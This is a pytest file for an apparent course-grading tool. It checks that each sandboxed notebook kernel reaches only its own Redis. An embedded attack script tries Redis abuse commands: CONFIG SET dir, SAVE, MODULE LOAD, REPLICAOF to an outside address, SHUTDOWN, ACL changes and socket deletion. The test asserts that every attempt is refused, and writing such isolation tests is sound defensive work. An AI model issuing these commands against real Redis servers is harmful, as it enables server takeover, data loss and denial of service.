"""Each chapter-07 kernel's own Redis: its app reaches it, and nothing more.

Two kernels are started as ``coursekit grade`` starts them for chapter 07,
each with its Redis. One is the attacker: its cells try to reach the other's
Redis, to do with its own what would reach outside its sandbox (write files,
load modules, replicate to a server elsewhere, stop it), and to put a server
of its own in its place. Each attempt raises what the sandbox or Redis
answers; should one work, the cell raises ``ATTACK WORKED``.
"""

from __future__ import annotations

import ast
import asyncio
import io
from pathlib import Path
from typing import Any

import psutil
import pytest
import redis

from coursekit.grading import sandbox
from coursekit.grading import submission_redis as submission_redis_module
from coursekit.grading.batch import GradeError, GradeSettings, grade_batch
from coursekit.grading.isolation import Isolation
from coursekit.grading.kernels import start_kernel
from coursekit.grading.submission import find_submissions
from coursekit.services.base import ServiceMissing
from coursekit.services.redis import find_programs
from tests import system_packages

ATTACKS = """\
import os, socket, redis
url = os.environ["REDIS_URL"]
own = redis.Redis.from_url(url, socket_timeout=5)
own.set("mine", "1")
outcomes = {"own": own.get("mine") == b"1", "grader_user_in_url": "grader" in url}
def attempt(name, call):
    try:
        call()
    except Exception as error:
        outcomes[name] = f"{type(error).__name__}: {error}"[:120]
    else:
        outcomes[name] = "ATTACK WORKED"
attempt("other", lambda: redis.Redis(unix_socket_path=%(other)r).ping())
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", 6379), 1))
attempt("config", lambda: own.config_set("dir", "/"))
attempt("save", lambda: own.save())
attempt("module", lambda: own.execute_command("MODULE", "LOAD", "/tmp/x.so"))
attempt("replicate", lambda: own.execute_command("REPLICAOF", "192.0.2.1", "6379"))
attempt("pause", lambda: own.execute_command("CLIENT", "PAUSE", "10000", "ALL"))
attempt("shutdown", lambda: own.execute_command("SHUTDOWN", "NOSAVE"))
attempt("acl", lambda: own.execute_command("ACL", "SETUSER", "grader", "off"))
path = url.split("@", 1)[1].split("?")[0]
attempt("replace_socket", lambda: os.remove(path))
print(outcomes)
"""


@pytest.fixture(scope="module")
def bwrap() -> None:
    try:
        sandbox.bubblewrap()
        find_programs()
    except (sandbox.SandboxUnavailable, ServiceMissing) as exc:
        if system_packages.ci():
            pytest.fail(f"the submissions' Redis must be tested in CI: {exc}")
        pytest.skip(f"no sandbox or no Redis here: {exc}")


def _still_running(pids: set[int]) -> set[int]:
    """Those of ``pids`` that are still a live redis-server."""
    alive = set()
    for pid in pids:
        try:
            process = psutil.Process(pid)
            if process.status() != psutil.STATUS_ZOMBIE and "redis-server" in (
                " ".join(process.cmdline())
            ):
                alive.add(pid)
        except psutil.Error:  # gone: what the test wants
            continue
    return alive


async def _attack() -> dict[str, Any]:
    isolation = Isolation(mode="require", base=6, redis=True)
    victim = await start_kernel(isolation=isolation, preload=())
    attacker = await start_kernel(isolation=isolation, preload=())
    try:
        assert victim.redis_url is not None and attacker.redis_url is not None
        other = victim.confinement.redis
        assert other is not None
        with redis.Redis.from_url(victim.redis_url) as grader:
            grader.set("secret", "the victim's")
        texts: list[str] = []
        kc = attacker.client.kc
        assert kc is not None
        await kc.execute_interactive(
            ATTACKS % {"other": str(other.socket)},
            timeout=60,
            output_hook=lambda msg: texts.append(
                str(msg["content"].get("text") or msg["content"].get("evalue") or "")
            ),
        )
        with redis.Redis.from_url(victim.redis_url) as grader:
            secret = grader.get("secret")
        with redis.Redis.from_url(attacker.redis_url) as grader:
            attacker_alive = grader.ping()
        running = {p.pid for k in (victim, attacker) for p in _processes_of(k)}
        return {
            "output": "".join(texts),
            "secret": secret,
            "attacker_alive": attacker_alive,
            "running": running,
        }
    finally:
        await victim.shutdown()
        await attacker.shutdown()


def _processes_of(kernel: Any) -> list[psutil.Process]:
    redis_of = kernel.confinement.redis
    assert redis_of is not None and redis_of.running
    folder = str(redis_of.folder)
    return [
        p
        for p in psutil.process_iter(["cmdline"])
        if "redis-server" in " ".join(p.info["cmdline"] or [])
        and folder in " ".join(p.info["cmdline"] or [])
    ]


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.usefixtures("bwrap")
def test_a_submission_reaches_its_own_redis_and_nothing_more() -> None:
    found = asyncio.run(_attack())
    output = found["output"]
    outcomes = ast.literal_eval(output.strip().splitlines()[-1])
    assert outcomes["own"] is True
    assert outcomes["grader_user_in_url"] is False  # only the checks have it
    assert "ATTACK WORKED" not in outcomes.values(), outcomes
    # Another kernel's socket is not in this sandbox; there is no network.
    assert outcomes["other"].startswith("ConnectionError: Error 2 "), outcomes
    assert "Connection refused" in outcomes["tcp"], outcomes
    for denied in ("config", "save", "replicate", "pause", "shutdown", "acl"):
        assert outcomes[denied].startswith("NoPermissionError"), outcomes
    # Refused by the server's configuration before its ACL is asked.
    assert "MODULE command not allowed" in outcomes["module"], outcomes
    assert "Read-only file system" in outcomes["replace_socket"], outcomes
    # The other Redis kept its data, this one still answers the grader.
    assert found["secret"] == b"the victim's"
    assert found["attacker_alive"] is True
    # Each ran as a process of its own, and both are gone with their kernels.
    assert len(found["running"]) >= 2
    # Only these two: other suites and workers start Redis servers of their
    # own meanwhile, which a count of every redis-server would take for ours.
    assert _still_running(found["running"]) == set()


def test_chapter_07_without_redis_server_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def missing() -> Path:
        raise ServiceMissing("redis-server is not installed here. Install Redis")

    monkeypatch.setattr(submission_redis_module, "_program", missing)
    notebook = tmp_path / "07_production.ipynb"
    notebook.write_text(
        '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    )
    settings = GradeSettings(out=tmp_path / "out", sandbox="off")
    with pytest.raises(GradeError) as raised:
        grade_batch(find_submissions([notebook]), settings, progress=io.StringIO())
    message = str(raised.value)
    assert "need a Redis for each submission" in message
    assert "redis-server is not installed" in message
    assert "nothing was graded" in message
    assert not (tmp_path / "out" / "grades.csv").exists()
